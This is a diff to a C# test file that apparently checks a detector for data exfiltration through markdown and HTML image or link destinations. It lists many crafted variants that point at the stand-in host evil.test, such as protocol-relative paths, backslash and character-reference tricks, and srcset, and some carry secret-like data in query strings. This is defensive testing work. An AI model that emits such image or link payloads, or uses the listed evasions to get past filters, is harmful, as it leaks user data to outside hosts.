@@ -38,4 +38,39 @@ public class ExfilTests
     [InlineData("visit https://evil.test/c?data=am9obkBleGFtcGxlLmNvbTpodW50ZXIy now", "url_query_data")]
     [InlineData("visit https://evil.test/c?u=jane.doe%40mail.example now", "url_query_data")]
     public void Links_images_and_query_data(string text, string label) => Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);
+
+    /// <summary>
+    /// What a browser fetches from another host though it is not written <c>https://host</c>: protocol-relative, other
+    /// slashes or none after the scheme, a backslash ending the host, character references, an image's srcset. Each
+    /// rendered an image from evil.test unreported before.
+    /// </summary>
+    [Theory]
+    [InlineData("![x](//evil.test/p.png?d=secret)", "markdown_image")]
+    [InlineData(@"![x](\\evil.test/p.png)", "markdown_image")]
+    [InlineData(@"![x](https:/\evil.test/p.png)", "markdown_image")]
+    [InlineData("![x](http:evil.test/p.png)", "markdown_image")]
+    [InlineData("![x](HTTPS:///evil.test/p.png)", "markdown_image")]
+    [InlineData("![x](&#104;ttps://evil.test/p.png)", "markdown_image")]
+    [InlineData("![x](<//evil.test/p.png>)", "markdown_image")]
+    [InlineData(@"![x](https://evil.test\x.example.com/p.png)", "markdown_image")]
+    [InlineData("[click](//evil.test/x)", "markdown_link")]
+    [InlineData("[ref]: //evil.test/x", "markdown_link")]
+    [InlineData("<img src=\"//evil.test/a.png\">", "html_image")]
+    [InlineData("<img src='&#x2F;&#x2F;evil.test/a.png'>", "html_image")]
+    [InlineData("<img src=\"https://evil.test\\x.example.com/a.png\">", "html_image")]
+    [InlineData("<img srcset=\"/local.png 1x, https://evil.test/b.png 2x\">", "html_image")]
+    [InlineData("<picture><source srcset='//evil.test/b.webp'></picture>", "html_image")]
+    public void Destinations_a_browser_reads_as_another_host_are_found(string text, string label) =>
+        Assert.Equal(label, Assert.Single(Exfil.Find(text, Allowed)).Label);
+
+    [Theory]
+    [InlineData("![x](/images/a.png)")]
+    [InlineData("![x](images/a.png) and [next](../b.md)")]
+    [InlineData("[top](#top) [mail](mailto:someone@evil.test)")]
+    [InlineData("![x](data:image/png;base64,iVBORw0KGgo=)")]
+    [InlineData("![x](//img.example.com/a.png)")]
+    [InlineData(@"![x](https://example.com\@evil.test/a.png)")]
+    [InlineData("<img srcset=\"a.png 1x, b.png 2x\"> <img src=\"/a.png\">")]
+    [InlineData("Footnote[1]: see the appendix")]
+    public void Relative_and_allowed_destinations_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
 }
